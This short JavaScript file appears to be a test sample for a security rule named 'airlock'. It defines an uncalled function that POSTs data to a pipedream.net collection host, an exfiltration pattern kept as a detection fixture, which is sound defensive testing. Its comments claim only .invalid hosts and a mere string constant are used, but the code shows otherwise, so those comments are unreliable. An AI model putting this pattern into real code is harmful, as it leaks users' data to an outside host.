// airlock rule test sample. Never executed by tests; the payload sits in a function
// that is never called, and uses only documentation IPs / .invalid hosts.
const https = require('https');
function never(data) {
  // string constant only
  const req = https.request({ host: 'eo0000000000000.m.pipedream.net', method: 'POST' });
  req.end(data);
}
module.exports = { never };
